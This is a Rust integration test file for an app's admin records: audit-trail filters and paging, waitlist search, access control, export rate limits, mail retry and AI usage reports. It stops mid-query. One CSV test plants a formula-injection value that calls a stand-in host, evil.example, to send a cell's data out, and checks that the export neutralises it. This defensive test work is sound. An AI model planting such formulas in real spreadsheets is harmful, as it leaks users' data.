//! The admin records: the audit trail (filters, keyset pages), the waitlist, the CSV exports
//! (quoting, formula injection, a 100,000-row export streamed), the mail outbox's retry and the
//! AI usage figures. Services are called with an admin made in SQL; the routes and server
//! functions are called over HTTP as anonymous, member and admin.

use std::collections::{HashMap, HashSet};

use app::admin::{
    AdminError, PAGE_SIZE,
    records::{AiUsageReport, AuditFilter, MailRetry, MailStatus, WAITLIST_CSV_PATH},
    records_api::{LoadAiUsage, LoadAuditTrail, LoadMailOutbox, LoadWaitlist, RetryMail},
};
use app::domain::Plan;
use kilat_server::admin::{access::Admin, ai_usage, audit_trail, outbox, waitlist};
use leptos::server_fn::ServerFn;
use reqwest::{Response, header};
use sqlx::PgPool;
use uuid::Uuid;

use crate::helpers::{TestApp, TestDb, spawn_app_with};

const ZONE: &str = "Asia/Jakarta";

/// An account made admin in SQL (no audit entry), and the proof the services take.
async fn admin_in(db: &TestDb, email: &str) -> Admin {
    let id = db.add_user(email).await;
    sqlx::query("update public.user_roles set role = 'admin' where user_id = $1")
        .bind(id)
        .execute(&db.pool)
        .await
        .unwrap();
    Admin::verify(&db.pool, id, email.to_string())
        .await
        .expect("an admin")
}

/// The server with `owner@kilat.id` signed in as its admin (through `ADMIN_EMAILS`).
async fn admin_app() -> (TestApp, PgPool) {
    let (owner, pool) = spawn_app_with(&[("ADMIN_EMAILS", "owner@kilat.id")]).await;
    owner.sign_up_confirmed("owner@kilat.id", "Owner").await;
    (owner, pool)
}

fn filter(set: &[(&str, &str)]) -> AuditFilter {
    let mut filter = AuditFilter::default();
    for (name, value) in set {
        let slot = match *name {
            "actor" => &mut filter.actor,
            "action" => &mut filter.action,
            "target" => &mut filter.target,
            "from" => &mut filter.from,
            "to" => &mut filter.to,
            other => panic!("no filter {other}"),
        };
        *slot = Some(value.to_string());
    }
    filter
}

/// Appends an audit entry as written at `at` (RFC 3339); its id.
#[allow(clippy::too_many_arguments)]
async fn entry(
    pool: &PgPool,
    actor: Option<Uuid>,
    actor_email: Option<&str>,
    action: &str,
    target: (&str, &str),
    at: &str,
    user_agent: Option<&str>,
) -> i64 {
    sqlx::query_scalar(
        "insert into public.audit_logs
           (actor_id, actor_email, action, target_type, target_id, metadata, ip, user_agent, created_at)
         values ($1, $2, $3, $4, $5, '{\"note\": \"x\"}', '203.0.113.7', $6, $7::timestamptz)
         returning id",
    )
    .bind(actor)
    .bind(actor_email)
    .bind(action)
    .bind(target.0)
    .bind(target.1)
    .bind(user_agent)
    .bind(at)
    .fetch_one(pool)
    .await
    .unwrap()
}

/// The ids of the first page `filter` shows.
async fn shown(pool: &PgPool, admin: &Admin, set: &[(&str, &str)]) -> Vec<i64> {
    let page = audit_trail::list(pool, admin, ZONE, &filter(set), None)
        .await
        .unwrap_or_else(|error| panic!("{set:?}: {error:?}"));
    page.items.iter().map(|entry| entry.id).collect()
}

#[tokio::test]
async fn the_audit_trail_filters_by_actor_action_target_and_whole_days_in_jakarta() {
    let db = TestDb::migrated().await;
    let admin = admin_in(&db, "boss@kilat.id").await;
    let pool = &db.pool;
    let (ana, budi) = (Uuid::new_v4(), Uuid::new_v4());
    // 00:30 on 4 December in Jakarta (UTC+7) …
    let e1 = entry(
        pool,
        Some(ana),
        Some("Ana@Kilat.ID"),
        "payment.success",
        ("payment", "KK-1"),
        "2026-12-03T17:30:00Z",
        None,
    )
    .await;
    // … and one second before midnight on 3 December there.
    let e2 = entry(
        pool,
        Some(ana),
        Some("Ana@Kilat.ID"),
        "payment.failed",
        ("payment", "KK-2"),
        "2026-12-03T16:59:59Z",
        None,
    )
    .await;
    let e3 = entry(
        pool,
        Some(budi),
        Some("budi@kilat.id"),
        "role.changed",
        ("user", &ana.to_string()),
        "2026-12-04T16:59:59Z",
        None,
    )
    .await;
    // The system, on 5 December in Jakarta; the same id as e1's target, another type.
    let e4 = entry(
        pool,
        None,
        None,
        "payment.success",
        ("subscription", "KK-1"),
        "2026-12-04T17:00:00Z",
        None,
    )
    .await;
    // Ana again, by address only (the account has been deleted since).
    let e5 = entry(
        pool,
        None,
        Some("ana@kilat.id"),
        "profile.updated",
        ("user", "gone"),
        "2026-12-02T00:00:00Z",
        None,
    )
    .await;

    assert_eq!(shown(pool, &admin, &[]).await, [e4, e3, e1, e2, e5]);
    assert_eq!(
        shown(pool, &admin, &[("actor", " ANA@kilat.id ")]).await,
        [e1, e2, e5],
        "an address matches in any case"
    );
    assert_eq!(
        shown(pool, &admin, &[("actor", &ana.to_string())]).await,
        [e1, e2]
    );
    assert_eq!(
        shown(pool, &admin, &[("actor", "nobody@kilat.id")]).await,
        Vec::<i64>::new()
    );
    assert_eq!(
        shown(pool, &admin, &[("action", "payment.success")]).await,
        [e4, e1]
    );
    assert_eq!(
        shown(pool, &admin, &[("target", "payment:KK-1")]).await,
        [e1]
    );
    assert_eq!(
        shown(pool, &admin, &[("target", "KK-1")]).await,
        [e4, e1],
        "an id alone matches every type"
    );
    assert_eq!(
        shown(pool, &admin, &[("target", &format!("user:{ana}"))]).await,
        [e3]
    );
    assert_eq!(
        shown(
            pool,
            &admin,
            &[("from", "2026-12-04"), ("to", "2026-12-04")]
        )
        .await,
        [e3, e1],
        "4 December in Jakarta: 17:00 UTC the day before until 17:00 UTC"
    );
    assert_eq!(
        shown(pool, &admin, &[("from", "2026-12-03")]).await,
        [e4, e3, e1, e2]
    );
    assert_eq!(shown(pool, &admin, &[("to", "2026-12-03")]).await, [e2, e5]);
    assert_eq!(
        shown(
            pool,
            &admin,
            &[
                ("actor", "ana@kilat.id"),
                ("action", "payment.success"),
                ("target", "payment:KK-1"),
                ("from", "2026-12-04"),
                ("to", "2026-12-31"),
            ]
        )
        .await,
        [e1],
        "filters combine"
    );

    // Every field of an entry comes back.
    let page = audit_trail::list(
        pool,
        &admin,
        ZONE,
        &filter(&[("target", "payment:KK-1")]),
        None,
    )
    .await
    .unwrap();
    let first = &page.items[0];
    assert_eq!(first.actor_id.as_deref(), Some(ana.to_string().as_str()));
    assert_eq!(first.actor_email.as_deref(), Some("Ana@Kilat.ID"));
    assert_eq!(first.ip.as_deref(), Some("203.0.113.7"));
    assert!(
        first.metadata.contains("\"note\": \"x\""),
        "{}",
        first.metadata
    );
    assert_eq!(first.at, 1_796_319_000, "2026-12-03T17:30:00Z");
    assert_eq!(page.next, None);

    for refused in [
        [("actor", "ana")],
        [("actor", "not-a-uuid-or-email")],
        [("action", "Payment.Success")],
        [("action", "payment")],
        [("from", "2026-12-32")],
        [("to", "04-12-2026")],
    ] {
        assert_eq!(
            audit_trail::list(pool, &admin, ZONE, &filter(&refused), None)
                .await
                .err(),
            Some(AdminError::InvalidFilter),
            "{refused:?}"
        );
    }
    assert_eq!(
        audit_trail::list(
            pool,
            &admin,
            ZONE,
            &filter(&[("from", "2026-12-05"), ("to", "2026-12-04")]),
            None
        )
        .await
        .err(),
        Some(AdminError::InvalidFilter),
        "the first day after the last"
    );
}

/// Every page of `set`, in order: the ids shown and how many pages.
async fn every_page(pool: &PgPool, admin: &Admin, set: &[(&str, &str)]) -> (Vec<i64>, usize) {
    let mut ids = Vec::new();
    let mut after = None;
    let mut pages = 0;
    loop {
        let page = audit_trail::list(pool, admin, ZONE, &filter(set), after.as_deref())
            .await
            .unwrap();
        pages += 1;
        assert!(page.items.len() <= PAGE_SIZE);
        ids.extend(page.items.iter().map(|entry| entry.id));
        match page.next {
            Some(next) => {
                assert_eq!(page.items.len(), PAGE_SIZE, "only a full page has a next");
                after = Some(next);
            }
            None => return (ids, pages),
        }
        assert!(pages < 100, "paging never ends");
    }
}

#[tokio::test]
async fn keyset_pages_show_every_entry_exactly_once_even_when_many_share_a_time() {
    let db = TestDb::migrated().await;
    let admin = admin_in(&db, "boss@kilat.id").await;
    // 120 entries in groups of 17 that share a microsecond: the page breaks (50, 100) fall
    // inside groups.
    let mut made: Vec<(i64, i64)> = sqlx::query_as(
        "insert into public.audit_logs (action, target_type, target_id, created_at)
         select 'test.paged', 'thing', i::text,
                '2026-12-04 10:00:00.123456+07'::timestamptz - make_interval(secs => i / 17)
         from generate_series(0, 119) i
         returning id, (extract(epoch from created_at) * 1000000)::bigint",
    )
    .fetch_all(&db.pool)
    .await
    .unwrap();
    // Newest first, the larger id first among equal times.
    made.sort_by_key(|&(id, micros)| std::cmp::Reverse((micros, id)));
    let expected: Vec<i64> = made.iter().map(|(id, _)| *id).collect();

    let (ids, pages) = every_page(&db.pool, &admin, &[("action", "test.paged")]).await;
    assert_eq!(pages, 3);
    assert_eq!(ids, expected, "in order, each once");

    // Unfiltered (another index): the same 120 among whatever else is there, each once.
    let (ids, _) = every_page(&db.pool, &admin, &[]).await;
    let unique: HashSet<i64> = ids.iter().copied().collect();
    assert_eq!(unique.len(), ids.len(), "no entry twice");
    assert!(expected.iter().all(|id| unique.contains(id)));
}

#[tokio::test]
async fn a_cursor_the_server_did_not_make_is_refused_as_a_bad_request() {
    let db = TestDb::migrated().await;
    let admin = admin_in(&db, "boss@kilat.id").await;
    for garbage in ["garbage", "1.x", "99999999999999999999999.1", "..", "1.2.3"] {
        assert_eq!(
            audit_trail::list(
                &db.pool,
                &admin,
                ZONE,
                &AuditFilter::default(),
                Some(garbage)
            )
            .await
            .err(),
            Some(AdminError::BadRequest),
            "{garbage}"
        );
        assert_eq!(
            waitlist::list(&db.pool, &admin, "", Some(garbage))
                .await
                .err(),
            Some(AdminError::BadRequest)
        );
        assert_eq!(
            outbox::list(&db.pool, &admin, None, Some(garbage))
                .await
                .err(),
            Some(AdminError::BadRequest)
        );
    }

    // Over HTTP: a 4xx with the refusal's code, never a fault.
    let (owner, _) = admin_app().await;
    for body in [
        "filter[action]=payment.success&after=garbage",
        "after=%00%FF%FE",
        "filter[actor]=not-an-actor",
    ] {
        let answer = call_raw(&owner, LoadAuditTrail::PATH, body).await;
        let status = answer.status().as_u16();
        let text = answer.text().await.unwrap();
        assert!((400..500).contains(&status), "{body}: {status} {text}");
    }
    let answer = call_raw(&owner, LoadAuditTrail::PATH, "filter[actor]=ana").await;
    assert_eq!(answer.status(), 422);
    assert!(answer.text().await.unwrap().contains("invalid_filter"));
}

/// Posts a server function's arguments as the page's script does, answered in JSON.
async fn call_raw(browser: &TestApp, path: &str, body: &str) -> Response {
    browser
        .client
        .post(format!("{}{path}", browser.address))
        .header(header::ORIGIN, &browser.address)
        .header(header::ACCEPT, "application/json")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(body.to_string())
        .send()
        .await
        .unwrap()
}

#[tokio::test]
async fn the_waitlist_pages_newest_first_counts_everyone_and_finds_part_of_an_address() {
    let db = TestDb::migrated().await;
    let admin = admin_in(&db, "boss@kilat.id").await;
    sqlx::query(
        "insert into public.waitlist (email, name, source, created_at)
         select case when i % 10 = 0 then 'fan' || i || '@Kilat.ID' else 'p' || i || '@mail.test' end,
                'Person ' || i, 'hero', now() - make_interval(secs => i)
         from generate_series(1, 70) i",
    )
    .execute(&db.pool)
    .await
    .unwrap();
    sqlx::query("insert into public.waitlist (email) values ('under_score@mail.test')")
        .execute(&db.pool)
        .await
        .unwrap();

    let first = waitlist::list(&db.pool, &admin, "", None).await.unwrap();
    assert_eq!(first.total, 71);
    assert_eq!(first.page.items.len(), PAGE_SIZE);
    assert_eq!(first.page.items[0].email, "under_score@mail.test", "newest");
    assert_eq!(first.page.items[1].email, "p1@mail.test");
    let second = waitlist::list(&db.pool, &admin, "", first.page.next.as_deref())
        .await
        .unwrap();
    assert_eq!(second.page.items.len(), 21);
    assert_eq!(second.page.next, None);
    let all: HashSet<String> = first
        .page
        .items
        .iter()
        .chain(&second.page.items)
        .map(|entry| entry.email.clone())
        .collect();
    assert_eq!(all.len(), 71);

    let found = waitlist::list(&db.pool, &admin, "  kilat.id ", None)
        .await
        .unwrap();
    assert_eq!(found.total, 71, "the count is of everyone");
    let emails: Vec<&str> = found.page.items.iter().map(|e| e.email.as_str()).collect();
    assert_eq!(
        emails,
        [
            "fan10@Kilat.ID",
            "fan20@Kilat.ID",
            "fan30@Kilat.ID",
            "fan40@Kilat.ID",
            "fan50@Kilat.ID",
            "fan60@Kilat.ID",
            "fan70@Kilat.ID"
        ]
    );
    let underscore = waitlist::list(&db.pool, &admin, "r_s", None).await.unwrap();
    assert_eq!(
        underscore.page.items.len(),
        1,
        "`_` is a letter, not a wildcard"
    );
    let none = waitlist::list(&db.pool, &admin, "%", None).await.unwrap();
    assert!(none.page.items.is_empty(), "`%` is a letter too");
}

/// A reader in RFC 4180's terms: records of fields.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut field)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            (false, c) => field.push(c),
        }
    }
    assert!(
        !quoted && field.is_empty() && record.is_empty(),
        "the file ends with a whole record"
    );
    records
}

async fn today_in_jakarta(pool: &PgPool) -> String {
    sqlx::query_scalar("select to_char(now() at time zone 'Asia/Jakarta', 'YYYYMMDD')")
        .fetch_one(pool)
        .await
        .unwrap()
}

#[tokio::test]
async fn csv_exports_quote_what_strangers_typed_and_never_let_a_spreadsheet_run_it() {
    let (owner, pool) = admin_app().await;
    let nasty_agent = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let target = "KK-1, \"the\nsecond\"";
    entry(
        &pool,
        None,
        Some("+62@kilat.id"),
        "payment.failed",
        ("payment", target),
        "2026-12-04T03:00:00Z",
        Some(nasty_agent),
    )
    .await;
    entry(
        &pool,
        None,
        Some("@evil"),
        "payment.success",
        ("payment", "-1+1"),
        "2026-12-04T04:00:00Z",
        Some("\tTAB"),
    )
    .await;
    entry(
        &pool,
        None,
        None,
        "payment.refunded",
        ("payment", "other"),
        "2026-12-04T05:00:00Z",
        None,
    )
    .await;
    sqlx::query(
        "insert into public.waitlist (email, name, source, created_at) values
           ('=1+1@kilat.id', 'Rahayu, \"Siti\"' || chr(10) || 'baris dua', '@campaign', now() - interval '1 minute'),
           ('ana@kilat.id', '-Ana', '+hero', now() - interval '2 minutes'),
           ('plain@kilat.id', null, null, now() - interval '3 minutes')",
    )
    .execute(&pool)
    .await
    .unwrap();
    let today = today_in_jakarta(&pool).await;

    let answer = owner
        .get("/admin/audit.csv?action=payment.failed&from=2026-12-04&to=2026-12-04")
        .await;
    assert_eq!(answer.status(), 200);
    let headers = answer.headers().clone();
    assert_eq!(headers[header::CONTENT_TYPE], "text/csv; charset=utf-8");
    assert_eq!(
        headers[header::CONTENT_DISPOSITION],
        format!("attachment; filename=\"audit-{today}.csv\"").as_str()
    );
    assert_eq!(headers[header::CACHE_CONTROL], "no-store", "private data");
    assert_eq!(headers["x-ratelimit-limit"], "30");
    let text = answer.text().await.unwrap();
    assert!(
        text.contains(",\"KK-1, \"\"the\nsecond\"\"\","),
        "quoted, inner quotes doubled, the line break kept: {text}"
    );
    assert!(
        text.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""),
        "{text}"
    );
    let records = parse_csv(&text);
    assert_eq!(
        records[0],
        [
            "id",
            "created_at",
            "actor_id",
            "actor_email",
            "action",
            "target_type",
            "target_id",
            "metadata",
            "ip",
            "user_agent"
        ]
    );
    assert_eq!(
        records.len(),
        2,
        "the filter holds in the export: {records:?}"
    );
    let row = &records[1];
    assert_eq!(row[1], "2026-12-04T03:00:00.000000Z");
    assert_eq!(row[2], "", "no actor id");
    assert_eq!(row[3], "'+62@kilat.id");
    assert_eq!(row[4], "payment.failed");
    assert_eq!(row[6], target, "read back as written");
    assert_eq!(row[7], "{\"note\": \"x\"}");
    assert_eq!(row[8], "203.0.113.7");
    assert_eq!(row[9], format!("'{nasty_agent}"));

    // The same filters as the list, by target id alone.
    let records = parse_csv(
        &owner
            .get("/admin/audit.csv?target=-1%2B1")
            .await
            .text()
            .await
            .unwrap(),
    );
    assert_eq!(records.len(), 2);
    assert_eq!(records[1][3], "'@evil");
    assert_eq!(records[1][6], "'-1+1");
    assert_eq!(records[1][9], "'\tTAB");
    // A filter the server cannot use is refused before anything is sent.
    let refused = owner.get("/admin/audit.csv?action=Not+An+Action").await;
    assert_eq!(refused.status(), 422);
    assert!(refused.text().await.unwrap().contains("cannot be used"));

    let answer = owner.get(WAITLIST_CSV_PATH).await;
    assert_eq!(answer.status(), 200);
    assert_eq!(
        answer.headers()[header::CONTENT_DISPOSITION],
        format!("attachment; filename=\"waitlist-{today}.csv\"").as_str()
    );
    let text = answer.text().await.unwrap();
    assert!(
        text.contains(",'=1+1@kilat.id,\"Rahayu, \"\"Siti\"\"\nbaris dua\",'@campaign\r\n"),
        "{text}"
    );
    let records = parse_csv(&text);
    assert_eq!(records[0], ["joined_at", "email", "name", "source"]);
    assert_eq!(records.len(), 4);
    assert_eq!(records[1][1], "'=1+1@kilat.id");
    assert_eq!(records[1][2], "Rahayu, \"Siti\"\nbaris dua");
    assert_eq!(records[1][3], "'@campaign");
    assert_eq!(records[2][1..], ["ana@kilat.id", "'-Ana", "'+hero"]);
    assert_eq!(records[3][1..], ["plain@kilat.id", "", ""]);
}

#[tokio::test]
async fn a_hundred_thousand_signups_export_complete_and_streamed() {
    let (owner, pool) = admin_app().await;
    sqlx::query(
        "insert into public.waitlist (email, name, source, created_at)
         select 'person' || i || '@kilat.test', 'Person ' || i, 'seed', now() - make_interval(secs => i)
         from generate_series(1, 100000) i",
    )
    .execute(&pool)
    .await
    .unwrap();

    let mut answer = owner.get(WAITLIST_CSV_PATH).await;
    assert_eq!(answer.status(), 200);
    assert!(
        answer.headers().get(header::CONTENT_LENGTH).is_none(),
        "the size is not known before the last row"
    );
    assert_eq!(answer.headers()[header::TRANSFER_ENCODING], "chunked");
    let mut body = Vec::new();
    let mut chunks = 0;
    while let Some(chunk) = answer.chunk().await.unwrap() {
        chunks += 1;
        body.extend_from_slice(&chunk);
    }
    assert!(chunks > 10, "arrived in pieces, as it was read: {chunks}");
    let text = String::from_utf8(body).unwrap();
    let lines: Vec<&str> = text.split_terminator("\r\n").collect();
    assert_eq!(lines.len(), 100_001, "the header and every signup");
    assert_eq!(lines[0], "joined_at,email,name,source");
    assert!(
        lines[1].ends_with(",person1@kilat.test,Person 1,seed"),
        "{}",
        lines[1]
    );
    assert!(lines[100_000].contains(",person100000@kilat.test,"));
    let emails: HashSet<&str> = lines[1..]
        .iter()
        .map(|line| line.split(',').nth(1).unwrap())
        .collect();
    assert_eq!(emails.len(), 100_000, "each once");
}

async fn status_of(browser: &TestApp, path: &str) -> u16 {
    browser.get(path).await.status().as_u16()
}

async fn call_status(browser: &TestApp, path: &str, body: &str) -> u16 {
    call_raw(browser, path, body).await.status().as_u16()
}

#[tokio::test]
async fn records_answer_404_to_anonymous_and_members_and_200_to_admins() {
    let (owner, pool) = admin_app().await;
    let anonymous = owner.other_browser();
    let member = owner.other_browser();
    member.sign_up_confirmed("member@kilat.id", "Member").await;
    let calls = [
        (LoadAuditTrail::PATH, "filter[action]=payment.success"),
        (LoadWaitlist::PATH, ""),
        (LoadMailOutbox::PATH, "status=Dead"),
        (RetryMail::PATH, "id=00000000-0000-0000-0000-000000000000"),
        (LoadAiUsage::PATH, ""),
    ];
    for path in ["/admin/audit.csv", WAITLIST_CSV_PATH] {
        for (who, browser) in [("anonymous", &anonymous), ("member", &member)] {
            let answer = browser.get(path).await;
            assert_eq!(answer.status(), 404, "{who} {path}");
            let body = answer.text().await.unwrap();
            assert!(
                !body.contains("joined_at") && !body.contains("actor_email"),
                "{body}"
            );
        }
        assert_eq!(status_of(&owner, path).await, 200, "admin {path}");
    }
    for (path, body) in calls {
        assert_eq!(
            call_status(&anonymous, path, body).await,
            404,
            "anonymous {path}"
        );
        assert_eq!(call_status(&member, path, body).await, 404, "member {path}");
        assert_eq!(call_status(&owner, path, body).await, 200, "admin {path}");
    }
    let exports: i64 =
        sqlx::query_scalar("select count(*) from public.audit_logs where action = 'data.exported'")
            .fetch_one(&pool)
            .await
            .unwrap();
    assert_eq!(exports, 2, "only the admin's two exports were made");

    // Demoted: the very next request is refused.
    sqlx::query(
        "update public.user_roles set role = 'member'
         where user_id = (select id from auth.users where email = 'owner@kilat.id')",
    )
    .execute(&pool)
    .await
    .unwrap();
    assert_eq!(status_of(&owner, WAITLIST_CSV_PATH).await, 404);
    assert_eq!(call_status(&owner, LoadAiUsage::PATH, "").await, 404);
}

#[tokio::test]
async fn exports_are_limited_per_admin() {
    let (owner, _) = spawn_app_with(&[
        ("ADMIN_EMAILS", "owner@kilat.id"),
        ("RATE_LIMIT_ADMIN_EXPORT", "2/1h"),
    ])
    .await;
    owner.sign_up_confirmed("owner@kilat.id", "Owner").await;
    assert_eq!(status_of(&owner, WAITLIST_CSV_PATH).await, 200);
    assert_eq!(status_of(&owner, "/admin/audit.csv").await, 200);
    let refused = owner.get(WAITLIST_CSV_PATH).await;
    assert_eq!(refused.status(), 429);
    assert!(refused.headers().contains_key(header::RETRY_AFTER));
    assert_eq!(refused.headers()["x-ratelimit-remaining"], "0");
    assert!(refused.text().await.unwrap().contains("Try again in"));
}

/// A message that died two days ago, after three attempts.
async fn dead_mail(pool: &PgPool) -> Uuid {
    sqlx::query_scalar(
        "insert into public.mail_outbox
           (kind, recipient, locale, subject, html, text, status, attempts, last_error,
            created_at, next_attempt_at, last_attempt_at, dead_at)
         values ('contact_message', 'ana@kilat.test', 'en', 'Hello', '<p>Hello</p>', 'Hello',
                 'dead', 3, 'resend 401: API key is invalid', now() - interval '2 days',
                 now() - interval '2 days', now() - interval '2 days', now() - interval '2 days')
         returning id",
    )
    .fetch_one(pool)
    .await
    .unwrap()
}

#[derive(Debug, sqlx::FromRow)]
struct MailRow {
    status: String,
    attempts: i32,
    last_error: Option<String>,
    due_now: bool,
}

async fn mail_row(pool: &PgPool, id: Uuid) -> MailRow {
    sqlx::query_as(
        "select status, attempts, last_error, next_attempt_at <= now() as due_now
         from public.mail_outbox where id = $1",
    )
    .bind(id)
    .fetch_one(pool)
    .await
    .unwrap()
}

async fn retry_over_http(browser: &TestApp, id: &str) -> Option<MailRetry> {
    let answer = call_raw(browser, RetryMail::PATH, &format!("id={id}")).await;
    assert_eq!(answer.status(), 200);
    answer.json().await.unwrap()
}

#[tokio::test]
async fn retrying_a_dead_mail_requeues_and_audits_it_once_and_a_second_retry_changes_nothing() {
    let (owner, pool) = admin_app().await;
    let id = dead_mail(&pool).await;
    let member = owner.other_browser();
    member.sign_up_confirmed("member@kilat.id", "Member").await;
    assert_eq!(
        call_status(&member, RetryMail::PATH, &format!("id={id}")).await,
        404
    );
    assert_eq!(
        mail_row(&pool, id).await.status,
        "dead",
        "a member changes nothing"
    );

    let owner_id: Uuid =
        sqlx::query_scalar("select id from auth.users where email = 'owner@kilat.id'")
            .fetch_one(&pool)
            .await
            .unwrap();
    let admin = Admin::verify(&pool, owner_id, "owner@kilat.id".into())
        .await
        .unwrap();
    let dead = outbox::list(&pool, &admin, Some(MailStatus::Dead), None)
        .await
        .unwrap();
    assert_eq!(dead.items.len(), 1);
    assert_eq!(dead.items[0].attempts, 3);
    assert_eq!(
        dead.items[0].last_error.as_deref(),
        Some("resend 401: API key is invalid")
    );

    assert_eq!(
        retry_over_http(&owner, &id.to_string()).await,
        Some(MailRetry::Requeued)
    );
    let audited: Vec<(Option<Uuid>, String, serde_json::Value)> = sqlx::query_as(
        "select actor_id, actor_email, metadata from public.audit_logs
         where action = 'mail.retried' and target_type = 'mail' and target_id = $1",
    )
    .bind(id.to_string())
    .fetch_all(&pool)
    .await
    .unwrap();
    assert_eq!(audited.len(), 1);
    let (actor, actor_email, metadata) = &audited[0];
    assert_eq!(
        (*actor, actor_email.as_str()),
        (Some(owner_id), "owner@kilat.id")
    );
    assert_eq!(metadata["before"]["status"], "dead");
    assert_eq!(metadata["after"]["status"], "pending");
    assert_eq!(metadata["attempts"], 3);

    // The message was queued two days ago, far past the give-up bound (12 hours): the server's
    // worker sends it anyway, because the bound counts from the retry.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    let sent = loop {
        let row = mail_row(&pool, id).await;
        if row.status != "pending" {
            break row;
        }
        assert!(row.attempts >= 3, "attempts are kept: {row:?}");
        assert!(std::time::Instant::now() < deadline, "never sent: {row:?}");
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    };
    assert_eq!(sent.status, "sent", "{sent:?}");
    assert_eq!(sent.attempts, 4, "the three before, and this one");
    assert_eq!(
        sent.last_error.as_deref(),
        Some("resend 401: API key is invalid"),
        "kept for the record"
    );
    let delivered: Option<String> =
        sqlx::query_scalar("select provider_message_id from public.mail_outbox where id = $1")
            .bind(id)
            .fetch_one(&pool)
            .await
            .unwrap();
    assert!(delivered.is_some(), "the provider accepted it");

    // Again: nothing to retry, nothing changes, nothing is audited.
    assert_eq!(
        retry_over_http(&owner, &id.to_string()).await,
        Some(MailRetry::NotDead(MailStatus::Sent))
    );
    let after = mail_row(&pool, id).await;
    assert_eq!((after.status.as_str(), after.attempts), ("sent", 4));
    let audits: i64 =
        sqlx::query_scalar("select count(*) from public.audit_logs where action = 'mail.retried'")
            .fetch_one(&pool)
            .await
            .unwrap();
    assert_eq!(audits, 1);
    assert_eq!(
        retry_over_http(&owner, &Uuid::new_v4().to_string()).await,
        Some(MailRetry::Missing)
    );
    assert_eq!(
        retry_over_http(&owner, "not-an-id").await,
        Some(MailRetry::Missing)
    );
}

#[tokio::test]
async fn a_retry_while_a_message_is_pending_changes_nothing_even_when_two_admins_click_at_once() {
    let db = TestDb::migrated().await;
    let admin = admin_in(&db, "boss@kilat.id").await;
    let other = admin_in(&db, "other@kilat.id").await;
    let id = dead_mail(&db.pool).await;

    let (a, b) = tokio::join!(
        outbox::retry(&db.pool, &admin, id),
        outbox::retry(&db.pool, &other, id)
    );
    let mut outcomes = [a.unwrap(), b.unwrap()];
    outcomes.sort_by_key(|outcome| format!("{outcome:?}"));
    assert_eq!(
        outcomes,
        [MailRetry::NotDead(MailStatus::Pending), MailRetry::Requeued]
    );
    let row = mail_row(&db.pool, id).await;
    assert_eq!(
        (row.status.as_str(), row.attempts, row.due_now),
        ("pending", 3, true)
    );
    let audits: i64 =
        sqlx::query_scalar("select count(*) from public.audit_logs where action = 'mail.retried'")
            .fetch_one(&db.pool)
            .await
            .unwrap();
    assert_eq!(audits, 1);

    let pending = outbox::list(&db.pool, &admin, Some(MailStatus::Pending), None)
        .await
        .unwrap();
    assert_eq!(pending.items.len(), 1);
    assert!(pending.items[0].requeued_at.is_some());
    assert!(
        outbox::list(&db.pool, &admin, Some(MailStatus::Dead), None)
            .await
            .unwrap()
            .items
            .is_empty()
    );
}

#[tokio::test]
async fn ai_usage_figures_equal_independent_sql() {
    let db = TestDb::migrated().await;
    let admin = admin_in(&db, "boss@kilat.id").await;
    let pool = &db.pool;
    let mut users = Vec::new();
    for i in 0..12 {
        let id = db.add_user(&format!("user{i}@kilat.test")).await;
        sqlx::query("update public.profiles set full_name = $2 where id = $1")
            .bind(id)
            .bind(format!("User {i}"))
            .execute(pool)
            .await
            .unwrap();
        users.push(id);
    }
    // Plans in force: PRO in its period, BASIC whose period ended (FREE in force), ULTIMATE
    // canceled (FREE), the rest FREE.
    sqlx::query(
        "update public.subscriptions set plan = 'PRO', status = 'active',
           current_period_start = now() - interval '1 day', current_period_end = now() + interval '29 days'
         where user_id = $1",
    )
    .bind(users[0])
    .execute(pool)
    .await
    .unwrap();
    sqlx::query(
        "update public.subscriptions set plan = 'BASIC', status = 'active',
           current_period_start = now() - interval '40 days', current_period_end = now() - interval '10 days'
         where user_id = $1",
    )
    .bind(users[1])
    .execute(pool)
    .await
    .unwrap();
    sqlx::query(
        "update public.subscriptions set plan = 'ULTIMATE', status = 'canceled', canceled_at = now(),
           current_period_start = now() - interval '5 days', current_period_end = now() + interval '25 days'
         where user_id = $1",
    )
    .bind(users[2])
    .execute(pool)
    .await
    .unwrap();
    // Calls from 40 days ago until now, some at the edges of Jakarta days, by two models.
    sqlx::query(
        "insert into public.ai_usage (user_id, provider, model, kind, prompt_tokens, completion_tokens, created_at)
         select u.id,
                case when (u.n + h) % 3 = 0 then 'anthropic' else 'openai' end,
                case when (u.n + h) % 3 = 0 then 'claude-haiku-4-5' else 'gpt-4o-mini' end,
                'chat', 10 * (13 - u.n) + h % 7, 100 * (13 - u.n) + h,
                now() - make_interval(hours => h * 7 + u.n::int)
         from unnest($1::uuid[]) with ordinality as u(id, n),
              generate_series(0, 137) h",
    )
    .bind(&users)
    .execute(pool)
    .await
    .unwrap();
    // Exactly at the start of the 30-day window in Jakarta, and a microsecond before it.
    sqlx::query(
        "insert into public.ai_usage (user_id, provider, model, kind, prompt_tokens, completion_tokens, created_at)
         select $1, 'openai', 'edge', 'generate', 1, 0,
                (date_trunc('day', now() at time zone 'Asia/Jakarta') - interval '29 days') at time zone 'Asia/Jakarta' + d
         from unnest(array[interval '0', interval '-1 microsecond']) d",
    )
    .bind(users[3])
    .execute(pool)
    .await
    .unwrap();

    let report: AiUsageReport = ai_usage::report(pool, &admin, ZONE).await.unwrap();

    // Independently: every call with its Jakarta day, summed here.
    let calls: Vec<(Uuid, String, String, i64, String, bool)> = sqlx::query_as(
        "select user_id, provider, model, prompt_tokens::bigint + completion_tokens,
                to_char(created_at at time zone 'Asia/Jakarta', 'YYYY-MM-DD'),
